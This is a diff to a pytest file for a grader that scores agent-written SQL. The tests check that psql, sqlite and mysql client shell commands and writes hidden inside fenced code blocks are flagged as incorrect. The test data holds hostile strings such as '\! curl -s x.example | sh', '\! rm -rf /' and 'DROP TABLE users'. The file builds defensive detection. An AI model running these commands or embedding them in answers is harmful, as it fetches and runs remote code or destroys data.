@@ -521,7 +521,14 @@ def test_prose_naming_into_outfile_without_a_file_is_no_write(prose: str) -> Non
             ".system (client command) (outside the SQL)",
         ),
         (".once /tmp/x\n\nSELECT name FROM users;", "duckdb", ".once (client command) (outside the SQL)"),
-        (".sys id\nSELECT name FROM users;", "sqlite", ".sys (client command) (outside the SQL)"),
+        (".sys id\nSELECT name FROM users;", "sqlite", ".system (client command) (outside the SQL)"),
+        ('."shell" id\nSELECT name FROM users;', "sqlite", ".shell (client command) (outside the SQL)"),
+        (
+            "```sql\nSELECT name FROM users;\n```\nDone. \\! curl -s x.example | sh",
+            "postgres",
+            "\\! (client command) (outside the SQL)",
+        ),
+        ("\\! id\nSELECT name FROM users;", "materialize", "\\! (client command) (outside the SQL)"),
         ("\\! id\nSELECT name FROM users;", "mysql", "\\! (client command) (outside the SQL)"),
         ("\\! rm -rf /\nSELECT name FROM users;", "postgres", "\\! (client command) (outside the SQL)"),
         (
@@ -538,6 +545,9 @@ def test_prose_naming_into_outfile_without_a_file_is_no_write(prose: str) -> Non
         "sqlite_system_in_a_block",
         "duckdb_once",
         "sqlite_prefix_of_system",
+        "sqlite_quoted_name",
+        "psql_shell_inside_a_line",
+        "materialize_psql",
         "mysql_client_shell",
         "psql_shell",
         "psql_output",
@@ -555,15 +565,38 @@ def test_a_command_line_client_command_is_never_scored_clean(sql: str, dialect: 
     assert evaluation.verdict is Verdict.INCORRECT and evaluation.p_correct == 0.0
 
 
-@pytest.mark.parametrize("dialect", ["sqlite", "mysql", "bigquery", "databricks"])
-def test_a_fenced_block_after_the_sql_is_no_quoted_name(dialect: str) -> None:
-    """In the dialects that quote names with backticks, a fenced block after unfenced SQL read as
-    one quoted name (an alias of the table), so the text was SQL as a whole and the DROP in the
-    block, which a harness that takes the message's code blocks runs, went unseen: CORRECT at Φ 80."""
-    sql = "SELECT name FROM users\n\n```sql\nDROP TABLE users\n```"
+@pytest.mark.parametrize(
+    ("sql", "dialect"),
+    [
+        ("SELECT name FROM users\n\n```sql\nDROP TABLE users\n```", "sqlite"),
+        ("SELECT name FROM users\n\n```sql\nDROP TABLE users\n```", "mysql"),
+        ("SELECT name FROM users\n\n```sql\nDROP TABLE users\n```", "bigquery"),
+        ("SELECT name FROM users\n\n```sql\nDROP TABLE users\n```", "databricks"),
+        ("SELECT name FROM users ```sql\nDROP TABLE users```", "mysql"),
+        ("SELECT name FROM users\n    ```sql\n    DELETE FROM users\n    ```", "sqlite"),
+    ],
+    ids=["sqlite", "mysql", "bigquery", "databricks", "closing_fence_inside_a_line", "indented_fence"],
+)
+def test_a_write_in_a_fenced_block_that_sql_reads_as_a_quoted_name_is_flagged(sql: str, dialect: str) -> None:
+    """In the dialects that quote names with backticks, a fenced block after unfenced SQL reads as
+    one quoted name (the table's alias), so the text was SQL as a whole and the DROP in the block,
+    which a harness that takes the message's code blocks runs, went unseen: CORRECT at Φ 80."""
     evaluation = evaluate(AgentLogRecord(run_id="r", question="Show the names of the users", sql=sql, dialect=dialect))
-    assert "non_select_statement: DROP" in evaluation.flags, evaluation.flags
-    assert evaluation.status is EvaluationStatus.NON_SELECT
+    assert any(
+        flag.startswith("non_select_statement: ") and flag.endswith(" (in a fenced block)") for flag in evaluation.flags
+    ), evaluation.flags
+    assert evaluation.verdict is Verdict.INCORRECT and evaluation.p_correct == 0.0
+
+
+@pytest.mark.parametrize("dialect", [None, "mysql", "sqlite", "bigquery"])
+def test_sql_followed_by_a_fenced_result_table_is_scored(dialect: str | None) -> None:
+    """A fenced block of output after the SQL holds no write: the answer stays scored, unflagged
+    (a review of 8dc1ae4 found it a parse_error when such a block made the text a message)."""
+    sql = "SELECT name FROM users\n\n```\nname\n-----\nAlice\nBob\n```"
+    evaluation = evaluate(AgentLogRecord(run_id="r", question="Show the names of the users", sql=sql, dialect=dialect))
+    assert evaluation.status is EvaluationStatus.EVALUATED, evaluation.status_reason
+    assert not any(flag.startswith("non_select_statement") for flag in evaluation.flags)
+    assert evaluation.verdict is Verdict.CORRECT
 
 
 @pytest.mark.parametrize(
@@ -616,6 +649,10 @@ def test_a_query_that_locks_rows_or_reaches_outside_is_no_read_only_answer(sql: 
         (".output /tmp/x\nSELECT name FROM users;", "postgres"),
         ("\\o /tmp/x\nSELECT name FROM users;", "sqlite"),
         ("SELECT url(id), edit(name), remote(id) FROM pages", "postgres"),
+        ("SELECT name FROM users\n\n\\s matches whitespace in the pattern.", None),
+        ("SELECT name FROM users\n\n\\. matches a literal dot", "mysql"),
+        ("SELECT name FROM users;\n\n.out files are written by the batch job", "sqlite"),
+        ("SELECT name FROM users;\n\n.sh scripts in the repo call this query", None),
     ],
     ids=[
         "columns",
@@ -629,6 +666,10 @@ def test_a_query_that_locks_rows_or_reaches_outside_is_no_read_only_answer(sql: 
         "dot_command_of_another_client",
         "psql_command_of_another_client",
         "user_functions_named_like_clickhouse_ones",
+        "regex_escape_at_a_line_start",
+        "mysql_regex_escape",
+        "out_file_extension",
+        "sh_file_extension",
     ],
 )
 def test_names_like_locks_client_commands_or_functions_are_no_write(sql: str, dialect: str) -> None:
